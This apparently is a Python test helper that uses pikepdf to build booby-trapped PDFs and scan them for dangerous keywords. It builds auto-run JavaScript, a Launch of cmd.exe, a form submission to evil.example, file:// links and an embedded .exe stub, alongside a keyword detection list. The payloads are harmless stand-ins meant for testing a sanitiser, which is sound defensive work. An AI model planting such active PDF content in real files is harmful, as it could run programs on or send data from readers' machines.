"""PDFs that act by themselves, and how to see whether one still does."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.factories import files

FORBIDDEN = (
    "/JavaScript",
    "/JS",
    "/Launch",
    "/EmbeddedFile",
    "/OpenAction",
    "/AA",
    "/XFA",
    "/SubmitForm",
    "/GoToR",
    "/ImportData",
    "/RichMedia",
    "/Filespec",
    "cmd.exe",
    "app.alert",
    "file://",
    "javascript:",
)


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def evil(change) -> bytes:
    with pikepdf.open(io.BytesIO(files.pdf("Loss runs of Kestrel Roofing"))) as made:
        change(made)
        out = io.BytesIO()
        made.save(out)
    return out.getvalue()


def _annotated(made, **words):
    rect = Array([0, 0, 99, 99])
    made.pages[0].obj.Annots = Array(
        [made.make_indirect(Dictionary(Type=Name.Annot, Rect=rect, **words))]
    )


def link(**action):
    return lambda made: _annotated(made, Subtype=Name.Link, A=Dictionary(**action))


def _attach(made):
    made.attachments["invoice.exe"] = b"MZ cmd.exe"


def _script_by_name(made):
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["x", made.make_indirect(script())]))
    )


def form_field(made):
    field = made.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T="Insured",
            V="Kestrel",
            AA=Dictionary(K=script()),
            Subtype=Name.Widget,
            Type=Name.Annot,
            Rect=Array([0, 0, 9, 9]),
        )
    )
    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA="app.alert", NeedAppearances=True)
    made.pages[0].obj.Annots = Array([field])


def _chain(made):
    last = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=script())
    _annotated(made, Subtype=Name.Link, A=last)


def _deep(made):
    inner = Dictionary(A=script())
    for _ in range(20):
        inner = Dictionary(Inner=Array([inner]))
    made.Root.Outlines = inner


EVIL = {
    "runs when it is opened": lambda made: made.Root.__setitem__("/OpenAction", script()),
    "runs by a page's action": lambda made: made.pages[0].obj.__setitem__(
        "/AA", Dictionary(O=script())
    ),
    "runs by a name": _script_by_name,
    "runs by a field": form_field,
    "runs after a link": _chain,
    "runs from deep inside": _deep,
    "starts a program": link(S=Name.Launch, F="cmd.exe"),
    "sends a form": link(S=Name.SubmitForm, F="https://evil.example"),
    "opens another file": link(S=Name.GoToR, F="file://share/x.pdf", D=Array([0, Name.Fit])),
    "follows a script as a link": link(S=Name.URI, URI="javascript:app.alert(1)"),
    "follows a path as a link": link(S=Name.URI, URI="file://share/x"),
    "takes in other values": link(S=Name.ImportData, F="x.fdf"),
    "holds a program": _attach,
    "holds a program on a page": lambda made: _annotated(
        made,
        Subtype=Name.FileAttachment,
        FS=made.make_indirect(
            Dictionary(
                Type=Name.Filespec, F="cmd.exe", EF=Dictionary(F=made.make_stream(b"MZ cmd.exe"))
            )
        ),
    ),
    "plays something": lambda made: _annotated(
        made, Subtype=Name.RichMedia, RichMediaContent=Dictionary()
    ),
}


def everything_in(content: bytes) -> str:
    """Every object of a PDF, written out."""
    with pikepdf.open(io.BytesIO(content)) as found:
        words = [
            one.unparse(resolved=True)
            for one in found.objects
            if not isinstance(one, pikepdf.Stream)
        ]
        streams = [one for one in found.objects if isinstance(one, pikepdf.Stream)]
        words += [
            Dictionary().unparse(),
            *(repr(dict(one.items())).encode() for one in streams),
        ]
        words += [_unpacked(one) for one in streams]
    return b"\n".join(words).decode("latin-1")


def _unpacked(stream: pikepdf.Stream) -> bytes:
    try:
        return stream.read_bytes()
    except pikepdf.PdfError:
        # Packed data that was torn: what no reader can unpack is judged as it lies there.
        return stream.read_raw_bytes()


def acts(content: bytes) -> list[str]:
    """What a PDF could still do, by the words it would need for it."""
    inside = everything_in(content)
    return [word for word in FORBIDDEN if word in inside]
